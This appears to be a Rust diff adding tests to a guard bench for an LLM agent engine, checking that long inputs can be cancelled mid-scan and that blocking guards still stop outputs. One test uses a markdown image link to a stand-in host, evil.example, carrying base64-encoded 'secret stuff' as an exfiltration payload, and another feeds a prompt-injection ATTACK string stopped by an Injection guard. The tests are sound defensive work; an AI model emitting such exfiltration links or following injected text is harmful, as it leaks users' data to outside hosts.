@@ -170,3 +170,36 @@ async fn guards_that_only_look_change_nothing_but_the_record() {
     assert!(seen.checks[0].passed && seen.checks[0].reason.starts_with("observed: "));
     assert_eq!(seen.messages[1].content, ATTACK);
 }
+
+/// A text that takes a while to look over.
+fn long(text: &str) -> String {
+    format!("{text}\n{}", "The river rose in the night. ".repeat(4_000))
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_call_can_be_ended_while_its_values_are_looked_over() {
+    let bench = bench(vec![answer(&[say("x")])], Memory::default());
+    let mut handle = bench.engine.start(run(vec![given(&long(ATTACK), blocking())]));
+    // The first that is heard is that it waits; on one thread it would else have ended by then.
+    assert!(matches!(handle.next().await.expect("an event").kind, RunEventKind::Queued));
+    handle.cancel_all();
+    let mut last = None;
+    while let Some(event) = handle.next().await {
+        last = Some(event.kind);
+    }
+    let Some(RunEventKind::Finished(execution)) = last else { panic!("a call always ends") };
+    assert_eq!(execution.status, Status::Cancelled);
+    assert_eq!(bench.scripted.attempts.lock().unwrap().len(), 1, "nothing was sent");
+}
+
+#[tokio::test(start_paused = true)]
+async fn what_takes_a_while_to_look_over_is_stopped_all_the_same() {
+    let link = "![x](https://evil.example/p.png?d=c2VjcmV0IHN0dWZm)";
+    let reply = long(link);
+    let bench = bench(vec![answer(&[say(&reply)]), answer(&[say("x")])], Memory::default());
+    let stopped = ended(&bench, given("a page", blocking())).await;
+    assert_eq!((stopped.status, stopped.text == reply), (Status::Blocked, true));
+    let stopped = ended(&bench, given(&long(ATTACK), blocking())).await;
+    assert_eq!(stopped.stopped_by(), BTreeSet::from([GuardName::Injection]));
+    assert_eq!(bench.scripted.attempts.lock().unwrap().len(), 1, "the second was not sent");
+}
